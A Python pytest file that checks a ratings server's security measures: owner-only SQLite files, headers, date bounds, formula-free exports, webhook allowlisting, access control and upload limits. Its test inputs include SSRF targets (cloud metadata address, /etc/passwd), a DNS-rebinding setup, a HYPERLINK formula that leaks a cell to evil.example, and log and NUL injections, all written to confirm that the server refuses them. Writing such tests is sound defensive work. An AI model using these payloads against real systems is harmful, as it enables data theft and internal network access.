"""The server's hygiene: its SQLite files owner-only; security headers (CSP without inline
script, HSTS and Secure cookies on HTTPS only, nosniff, referrer policy), allowed hosts and
short sessions; dates in URLs bounded (400 with the reason, never 500); exports that no
spreadsheet runs as formulas; node names escaped in the PDF; webhooks only to allowed, public
(or explicitly listed) addresses, checked again at send time; appeals only for ratings of the
staff member's own branch; 403 alike for unknown and forbidden nodes; survey uploads bounded."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys
import threading
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "web"))

from serverlib import Server, Site, call, server_env
from webclient import WebClient, logged_in
from webdata import rating, upload

from ratepad_server.alerts.webhooks import (
    Allowlist,
    WebhookFailed,
    WebhookRefused,
    check_url,
    post_json,
)

SQLITE_ONLY = pytest.mark.parametrize("site", ["sqlite"], indirect=True)


# -- the database's files --------------------------------------------------------------------
def _init(db: Path) -> None:
    subprocess.run([sys.executable, "-m", "ratepad_server", "init", "--db", str(db)],
                   check=True, capture_output=True, env=server_env(), cwd=db.parent)  # fmt: skip


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_sqlite_database_and_its_wal_are_owner_only(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "server.sqlite3"
    files = [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")]
    old = os.umask(0o022)  # what a service usually runs with: new files 0644
    try:
        _init(db)
        assert _mode(db) == 0o600
        reader = sqlite3.connect(db)  # holds the -wal and -shm open
        try:
            reader.execute("SELECT count(*) FROM org_node").fetchone()
            assert all(_mode(p) == 0o600 for p in files), [oct(_mode(p)) for p in files]
            for p in files:  # made before modes were kept: narrowed at the next init or run
                p.chmod(0o644)
            _init(db)
            assert all(_mode(p) == 0o600 for p in files), [oct(_mode(p)) for p in files]
        finally:
            reader.close()
    finally:
        os.umask(old)


# -- webhooks ----------------------------------------------------------------------------------
@pytest.fixture
def receiver() -> Iterator[tuple[str, list[Any], dict[str, str]]]:
    """A local webhook receiver; ``redirect["to"]`` set: it answers 302 there instead."""
    received: list[Any] = []
    redirect: dict[str, str] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            received.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self.send_response(302 if redirect else 204)
            if redirect:
                self.send_header("Location", redirect["to"])
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    httpd = HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_port}/hook", received, redirect
    finally:
        httpd.shutdown()
        thread.join(5)


@pytest.mark.parametrize(
    ("url", "allow", "why"),
    [
        ("file:///etc/passwd", "*", "http:// or https://"),
        ("gopher://example.com/", "*", "http:// or https://"),
        ("http://127.0.0.1:9/hook", "", "not in RATEPAD_WEBHOOK_ALLOW"),
        ("http://127.0.0.1:9/hook", "*", "not in RATEPAD_WEBHOOK_ALLOW"),
        ("http://169.254.169.254/latest/meta-data/", "*", "not in RATEPAD_WEBHOOK_ALLOW"),
        ("http://[::ffff:127.0.0.1]/", "*", "not in RATEPAD_WEBHOOK_ALLOW"),
        ("http://localhost:9/hook", "localhost", "not a public address"),
        ("http://localhost:9/hook", "*", "not a public address"),
        ("http://example.com/hook", "hooks.example.com", "not in RATEPAD_WEBHOOK_ALLOW"),
        ("http://user:pw@hooks.example.com/", "hooks.example.com", "no user or password"),
    ],
)
def test_webhook_urls_refused(url: str, allow: str, why: str) -> None:
    with pytest.raises(WebhookRefused, match=why):
        check_url(url, Allowlist.parse(allow))


def test_webhook_urls_admitted() -> None:
    listed = Allowlist.parse("localhost, 127.0.0.1, ::1")
    assert check_url("http://localhost:8000/x?y=1", listed).path == "/x?y=1"
    target = check_url("https://[::1]/", listed)
    assert target.https and target.port == 443
    networks = Allowlist.parse("10.20.0.0/16, .example.com")
    assert check_url("http://10.20.3.4/", networks).addresses[0].exploded == "10.20.3.4"
    with pytest.raises(WebhookRefused):
        check_url("http://10.21.0.1/", networks)


def test_webhook_checked_again_at_send_time(
    receiver: tuple[str, list[Any], dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name that resolved to a public address when the rule was saved and resolves to a
    loopback address when the alert is sent (DNS rebinding) is refused at the send."""
    url, received, _ = receiver
    port = url.split(":")[2].split("/")[0]
    allow = Allowlist.parse("hooks.example.test")
    public = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.216.34", int(port)))]
    rebound = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", int(port)))]
    answers = iter([public, rebound])
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: next(answers))
    hook = f"http://hooks.example.test:{port}/hook"
    assert check_url(hook, allow).addresses[0].exploded == "93.184.216.34"  # the rule's save
    with pytest.raises(WebhookRefused, match=r"127\.0\.0\.1"):
        post_json(hook, {"id": 1}, allow=allow)
    assert received == []


def test_webhook_to_a_listed_receiver_without_redirects(
    receiver: tuple[str, list[Any], dict[str, str]],
) -> None:
    url, received, redirect = receiver
    allow = Allowlist.parse("127.0.0.1")
    assert post_json(url, {"id": 7}, allow=allow) == 204
    assert received == [{"id": 7}]
    redirect["to"] = "http://169.254.169.254/latest/meta-data/"
    with pytest.raises(WebhookFailed, match="302"):
        post_json(url, {"id": 8}, allow=allow)
    assert received == [{"id": 7}, {"id": 8}]  # one call, the redirect not followed


def test_rules_refuse_webhooks_outside_the_allowlist(site: Site, server: Server) -> None:
    """The server runs without RATEPAD_WEBHOOK_ALLOW: no webhook is admitted at a rule's
    save, with the reason on the page (test_alerts lists its local receiver and gets called)."""
    admin = logged_in(server.url, "hq-admin")
    for url in ("file:///etc/passwd", "http://127.0.0.1:9/hook", "http://169.254.169.254/",
                "http://localhost:9/"):  # fmt: skip
        status, body = admin.post("/rules/", {"name": "x", "node": "BJ", "kind": "low_rating",
                                              "level": "2", "webhook": url})  # fmt: skip
        assert status == 400 and b"webhook" in body, (url, status)
    assert site.sql("SELECT count(*) FROM alerts_rule") == (0,)
    for field in ("name", "emails", "node"):  # NUL: PostgreSQL refuses it in any text
        form = {"name": "x", "node": "BJ", "kind": "low_rating", "level": "2"}
        status, body = admin.post("/rules/", {**form, field: form.get(field, "a") + "\x00b"})
        assert status == 400 and b'id="reason"' in body, (field, status)
    assert site.sql("SELECT count(*) FROM alerts_rule") == (0,)
    big = {"ratings": [], "devices": [], "pad": "x" * (9 * 1024 * 1024)}
    status, body = call(server.url, "/api/v1/ingest/batch", site.keys["BJ-001"], big)
    assert status == 413, (status, body)  # the agent sends a batch refused so in halves


# -- headers, hosts, sessions ------------------------------------------------------------------
@SQLITE_ONLY
def test_security_headers_hosts_and_sessions(site: Site, server: Server) -> None:
    client = WebClient(server.url)
    assert client.get("/login/")[0] == 200
    h = client.last_headers
    csp = dict(d.strip().split(" ", 1) for d in h["Content-Security-Policy"].split(";"))
    assert csp["script-src"] == "'self'" and csp["frame-ancestors"] == "'none'"
    assert h["X-Content-Type-Options"] == "nosniff" and h["Referrer-Policy"] == "same-origin"
    assert "Strict-Transport-Security" not in h  # plain HTTP: no HSTS, no Secure cookie
    assert client.login("bj-manager") == 302
    session = next(c for c in client.jar if c.name == "sessionid")
    assert not session.secure and session.expires is None  # ends with the browser
    assert client.get("/report/BJ/")[0] == 200
    assert "Content-Security-Policy" in client.last_headers
    stranger = WebClient(server.url)  # a host name not in ALLOWED_HOSTS
    stranger.headers = {"Host": "evil.example"}
    assert stranger.get("/login/")[0] == 400
    status, _ = call(server.url, "/api/v1/nodes", site.tokens["hq-admin"],
                     headers={"Host": "evil.example"})  # fmt: skip
    assert status == 400


@SQLITE_ONLY
def test_https_through_the_trusted_proxy_gets_hsts_and_secure_cookies(site: Site) -> None:
    proxied = site.server("--trusted-proxy", "127.0.0.1")
    try:
        client = WebClient(proxied.url)
        client.headers = {"X-Forwarded-Proto": "https"}
        assert client.get("/login/")[0] == 200
        assert client.last_headers["Strict-Transport-Security"].startswith("max-age=")
        assert "Secure" in client.last_headers["Set-Cookie"]  # the CSRF cookie
    finally:
        proxied.close()


# -- dates in URLs -----------------------------------------------------------------------------
WEB_DATES = [
    "/report/BJ/?since=9999-12-31",
    "/report/BJ/?until=9999-12-31",
    "/report/BJ/?until=0001-01-01",
    "/report/BJ/?since=0001-01-01&until=0001-01-31",
    "/report/BJ-001/monthly.pdf?month=9999-12",
    "/report/BJ-001/monthly.pdf?month=0001-01",
    "/report/BJ-001/monthly.pdf?month=2026-13",
    "/report/BJ/export.csv?until=9999-12-31",
    "/ratings/BJ-001/?since=9999-12-31&until=9999-12-31",
    "/ratings/BJ-001/export.xlsx?until=0001-01-01",
]
API_DATES = [
    "/api/v1/summary?node=BJ&since=9999-12-31T00:00:00",
    "/api/v1/summary?node=BJ&until=9999-12-31T23:59:59%2B00:00",
    "/api/v1/summary?node=BJ&since=0001-01-01T00:00:00",
    "/api/v1/ratings?node=BJ&until=0001-01-01T00:00:00Z",
]


def test_dates_out_of_range_are_400_with_the_reason(site: Site, server: Server) -> None:
    manager = logged_in(server.url, "bj-manager")
    for path in WEB_DATES:
        status, body = manager.get(path)
        text = body.decode()
        assert status == 400 and 'id="reason"' in text and 'id="logout"' in text, (path, status)
        assert ("2000-01-01" in text and "2099-12-31" in text) or "YYYY-MM" in text, path
    assert manager.get("/report/BJ/?since=2000-01-01&until=2000-12-31")[0] == 200
    assert manager.get("/report/BJ-001/monthly.pdf?month=2099-12")[0] == 200
    for path in API_DATES:
        status, body = call(server.url, path, site.tokens["bj-manager"])
        assert status == 400 and "2099-12-31" in body["detail"], (path, status, body)
    assert call(server.url, "/api/v1/summary?node=BJ&since=2000-01-01T00:00:00",
                site.tokens["bj-manager"])[0] == 200  # fmt: skip


def test_control_characters_outside_the_upload_are_refused(site: Site, server: Server) -> None:
    """NUL in a URL, a query, a login name or an admin's JSON: a 4xx with the reason, never a
    500 (PostgreSQL refuses NUL in any query), and the failed login is still in the audit log."""
    token = site.tokens["hq-admin"]
    for path in ("/api/v1/summary?node=B%00J", "/api/v1/ratings?node=BJ&since%00=1",
                 "/api/v1/nodes?node=%01", "/api/v1/summary?node=BJ%C2%85"):  # fmt: skip
        status, body = call(server.url, path, token, headers={"Accept-Language": "en"})
        assert status == 400 and "control character" in body["detail"], (path, status, body)
    status, body = call(server.url, "/api/v1/auth/token", body={"username": "hq\u0000admin",
                        "password": "wrong-password"})  # fmt: skip
    assert status == 401, (status, body)
    assert site.sql("SELECT count(*) FROM audit_auditentry WHERE action = 'login.failed'"
                    " AND username = 'hq\ufffdadmin'") == (1,)  # fmt: skip
    assign = {"serial": "K\u00001", "journal_seq": 1, "window": "BJ-001-W1"}
    status, body = call(server.url, "/api/v1/quarantine/assign", token, assign)
    assert status == 422, (status, body)
    manager = logged_in(server.url, "bj-manager")
    status, page = manager.get("/report/B%00J/")
    assert status == 400 and 'id="reason"' in page.decode(), status


def test_the_log_keeps_a_client_error_to_one_line(site: Site, server: Server) -> None:
    """A client's 4xx is one log line without a traceback, and a line break in its path cannot
    write a line of its own into the server's log."""
    clerk = logged_in(server.url, "s001")
    assert clerk.get("/report/BJ-001/")[0] == 403  # PermissionDenied in the view
    assert clerk.get("/nope%0aERROR%20forged%20line/")[0] in (400, 404)
    server.log.flush()
    text = (server.cwd / "server.log").read_text(encoding="utf-8")
    assert "Forbidden" in text and "Traceback" not in text
    assert not any(line.startswith("ERROR forged") for line in text.splitlines()), text[-2000:]


# -- access: unknown nodes, appeals ------------------------------------------------------------
def test_unknown_nodes_and_other_branches_are_refused_alike(site: Site, server: Server) -> None:
    token = site.tokens["bj-manager"]
    unknown = call(server.url, "/api/v1/summary?node=NOPE", token)
    foreign = call(server.url, "/api/v1/summary?node=SH-001", token)
    assert unknown[0] == foreign[0] == 403
    assert unknown[1]["detail"].replace("NOPE", "X") == foreign[1]["detail"].replace("SH-001", "X")
    admin = site.tokens["bj001-admin"]
    answers = []
    for window in ("NOPE-W1", "SH-001-W1"):  # unknown, another subtree's: one answer
        status, body = call(server.url, "/api/v1/quarantine/assign", admin,
                            {"serial": "K1", "journal_seq": 1, "window": window})  # fmt: skip
        answers.append((status, body["detail"].replace(window, "X")))
    assert answers[0] == answers[1] and answers[0][0] == 403, answers
    manager = logged_in(server.url, "bj-manager")
    for page in ("/report/{}/", "/live/{}/", "/ratings/{}/export.csv", "/report/{}/monthly.pdf"):
        assert manager.get(page.format("NOPE"))[0] == manager.get(page.format("SH-001"))[0] == 403
    clerk = logged_in(server.url, "s001")
    assert clerk.post("/appeals/99/decide", {"decision": "upheld"})[0] == 403  # a clerk: role
    assert manager.post("/appeals/99/decide", {"decision": "upheld"})[0] == 403  # no such appeal
    # appeals: S001 works at BJ-001; a rating at SH-001 carrying the id S001 is not theirs
    upload(server.url, site.keys["SH-001"], ratings=[rating("K4", 1, 1, staff="S001")])
    upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", 1, 1, staff="S001")])
    reason = {"reason": "pressed by a child"}
    status, _ = clerk.post("/appeals/", {"serial": "K4", "journal_seq": "1", **reason})
    absent, _ = clerk.post("/appeals/", {"serial": "K9", "journal_seq": "1", **reason})
    assert status == absent == 404  # one answer: nothing told about the other branch
    assert clerk.post("/appeals/", {"serial": "K1", "journal_seq": "1", **reason})[0] == 302
    assert site.sql("SELECT count(*) FROM alerts_appeal") == (1,)


# -- exports -----------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exports_carry_no_formulas_and_the_pdf_no_markup(site: Site, server: Server) -> None:
    site.sql(f"UPDATE org_node SET name = '{FORMULA.replace(chr(39), chr(39) * 2)}' "
             "WHERE code = 'BJ-001'")  # fmt: skip
    site.sql("UPDATE org_node SET name = '@SUM(1+1)' WHERE code = 'BJ-002'")
    upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", 1, 4)])
    manager = logged_in(server.url, "bj-manager")
    status, body = manager.get("/report/BJ/export.csv")
    assert status == 200
    rows = {r[1]: r for r in csv.reader(io.StringIO(body.decode("utf-8-sig"))) if len(r) > 2}
    assert rows["BJ-001"][2] == "'" + FORMULA and rows["BJ-002"][2] == "'@SUM(1+1)"
    assert rows["BJ-001"][3] == "1"  # n: a number, as it was
    status, body = manager.get("/report/BJ/export.xlsx")
    assert status == 200
    sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # text, never a formula cell
    assert '<c r="D2" t="n"><v>1</v></c>' in sheet  # numbers stay numbers
    # the lines saying what a file covers name the node: escaped alike (CSV), text (XLSX)
    status, body = manager.get("/report/BJ-001/export.csv")
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert status == 200 and ["# 机构", f"'{FORMULA} (BJ-001)"] in lines
    book = zipfile.ZipFile(io.BytesIO(manager.get("/report/BJ-001/export.xlsx")[1]))
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2 and not any("<f>" in book.read(n).decode() for n in sheets)
    # the PDF's paragraphs are markup: a name that is markup itself is escaped, not parsed
    site.sql("UPDATE org_node SET name = '<b>A & B</i>' WHERE code = 'BJ-001'")
    status, body = manager.get("/report/BJ-001/monthly.pdf")
    assert status == 200 and body.startswith(b"%PDF")


@SQLITE_ONLY
def test_an_export_over_its_row_cap_is_refused(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Refused with the reason rather than cut short (RATEPAD_EXPORT_MAX_ROWS: 100,000)."""
    monkeypatch.setenv("RATEPAD_EXPORT_MAX_ROWS", "2")
    server = site.server()
    try:
        upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", i, 4) for i in (1, 2)])
        manager = logged_in(server.url, "bj-manager")
        assert manager.get("/ratings/BJ-001/export.csv")[0] == 200
        upload(server.url, site.keys["BJ-001"], ratings=[rating("K1", 3, 4)])
        manager.headers = {"Accept-Language": "en"}
        status, body = manager.get("/ratings/BJ-001/export.xlsx")
        assert status == 400 and b"more than 2 ratings" in body
    finally:
        server.close()


# -- survey uploads ----------------------------------------------------------------------------
def _upload_survey(client: WebClient, name: str, data: bytes) -> tuple[int, bytes]:
    import urllib.error
    import urllib.request

    boundary = "ratepad-test-boundary"
    token = next(c.value for c in client.jar if c.name == "csrftoken")
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n'
            f'{token}\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
            f'filename="{name}"\r\nContent-Type: text/csv\r\n\r\n'
        ).encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )
    req = urllib.request.Request(client.base + "/survey/", data=body, method="POST",
                                 headers={"Content-Type": f"multipart/form-data; "
                                          f"boundary={boundary}"})  # fmt: skip
    try:
        with client.opener.open(req, timeout=60) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@SQLITE_ONLY
def test_survey_uploads_are_bounded(site: Site, server: Server) -> None:
    viewer = logged_in(server.url, "bj-viewer")
    good = b"q1,q2,q3\n" + b"".join(f"{i % 5 + 1},{(i + 1) % 5 + 1},{i % 5 + 1}\n".encode()
                                    for i in range(40))  # fmt: skip
    assert _upload_survey(viewer, "ok.csv", good)[0] == 200
    status, body = _upload_survey(viewer, "big.csv", b"1,2,3\n" * (6 * 1024 * 1024 // 6))
    assert status == 413 and b'id="survey-error"' in body
    header = ",".join(f"q{i}" for i in range(100))
    wide = "\n".join([header] + [",".join(str((i + r) % 5 + 1) for i in range(100))
                                  for r in range(3)]).encode()  # fmt: skip
    status, body = _upload_survey(viewer, "wide.csv", wide)
    assert status == 400 and b"60" in body
